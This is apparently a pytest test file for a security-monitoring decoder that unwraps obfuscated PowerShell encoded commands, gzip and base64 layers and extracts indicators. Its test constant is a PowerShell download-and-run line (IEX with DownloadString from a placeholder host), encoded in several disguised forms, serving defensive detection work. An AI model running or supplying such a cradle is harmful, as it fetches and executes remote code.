"""Decoding as a whole: which layers are found in which order, when it stops, and what hostile text costs."""

from __future__ import annotations

import base64
import gzip
import time
from typing import Any

import pytest
from sysmon_essentials.commands.decode import Decode, decode

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://files.example.net/a.ps1')"
HARMLESS = {
    "service host": r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    "carets of a pattern": "findstr /r ^abc [^a-z] file.txt",
    "format of git": "git log -1 --format=%H%n%an",
    "variables": r"cmd.exe /c %SystemRoot%\system32\where.exe %PATH%",
    "hashes and paths": "/opt/a/agent --id 7c41b9e2-42aa-66f0-9b01-000000002f00 --sha 7c41b9e242aa66f09b01000000002f00 "
    "/usr/share/aaaaaaaaaaaaaaaaaaaa/bbbbbbbbbbbbbbbbbbb",
    "base64 that is no text": "agent --key 3q2+7wABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f",
    "option e": "grep -e passwords /etc/hosts",
}  # fmt: skip
HOSTILE = {
    "quotes": "'" * 60_000,
    "plus": "'+" * 30_000,
    "char": "[char]7+" * 8_000,
    "percent": "%a" * 30_000,
    "parentheses": "-join(" * 10_000,
    "formats": "'{0}" * 15_000,
    "numbers": "char " + "1," * 30_000,
    "spaces": "' " + " " * 60_000,
    "base64": "A" * 65_000,
    "variables that grow": "set a=%a%%a%%a%%a%&" * 3_000,
    "parts": "'{0}{1}{0}'" * 3_000 + "' -f " + "'a'," * 5_000,
}


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize("switch", ["-e", "-ec", "-EN", "/enc", "\u2013encod", "-EncodedComman", "-encodedCommand"])
def test_every_short_form_of_the_switch(switch: str) -> None:
    found = decode(f"powershell.exe -NoP {switch} {encoded(SCRIPT)}")
    assert found.text == f"powershell.exe -NoP -Command {SCRIPT}"
    assert found.layers == ["powershell -encodedcommand", "utf-16"]


def test_layers_inside_layers_come_outermost_first() -> None:
    packed = base64.b64encode(gzip.compress(SCRIPT.encode())).decode()
    inner = f"[IO.Compression.GzipStream][Convert]::FromBase64String('{packed}')"
    found = decode(f"powershell -enc {encoded(f'powershell -enc {encoded(inner)}')}")
    assert SCRIPT in found.text
    assert found.layers == ["powershell -encodedcommand", "utf-16"] * 2 + ["base64", "gzip"]


def test_depth_is_bounded() -> None:
    text = SCRIPT
    for _ in range(6):
        text = f"powershell -e {encoded(text)}"
    assert SCRIPT in decode(text, depth=12).text
    assert SCRIPT not in decode(text, depth=4).text


def test_unpacking_is_bounded() -> None:
    bomb = base64.b64encode(gzip.compress(b"A" * 50_000_000)).decode()
    assert len(decode(f"x FromBase64String('{bomb}')").text) <= 65536


@pytest.mark.parametrize("name", HARMLESS, ids=str)
def test_nothing_is_found_in_plain_command_lines(name: str) -> None:
    assert decode(HARMLESS[name]) == (HARMLESS[name], [])


@pytest.mark.parametrize("name", HOSTILE, ids=str)
def test_hostile_text_costs_little(name: str) -> None:
    started = time.process_time()
    decode(HOSTILE[name])
    assert time.process_time() - started < 5


def run(record: dict[str, Any], **options: str) -> dict[str, Any]:
    return next(Decode(options).add([record]))


def test_record_gets_text_layers_and_indicators() -> None:
    row = run({"CommandLine": f"powershell -e {encoded(SCRIPT)}"})
    assert row["decoded_layers"] == ["powershell -encodedcommand", "utf-16"]
    assert row["decoded_indicators"] == [
        "url:http://files.example.net/a.ps1", "domain:files.example.net", "does:download", "does:run text",
    ]  # fmt: skip


def test_record_that_hides_nothing_stays_as_it_is() -> None:
    assert run({"CommandLine": "cmd /c dir"}) == {"CommandLine": "cmd /c dir"}


def test_first_field_with_a_value_counts() -> None:
    assert run({"a": "", "b": "c^al^c"}, field="a,b", prefix="")["text"] == "calc"


def test_repeated_lines_are_decoded_once_and_answers_do_not_mix() -> None:
    command = Decode({})
    rows = list(command.add([{"CommandLine": "c^al^c", "n": str(number)} for number in range(3)]))
    assert [(row["n"], row["decoded_text"]) for row in rows] == [("0", "calc"), ("1", "calc"), ("2", "calc")]
    assert len(command._known) == 1
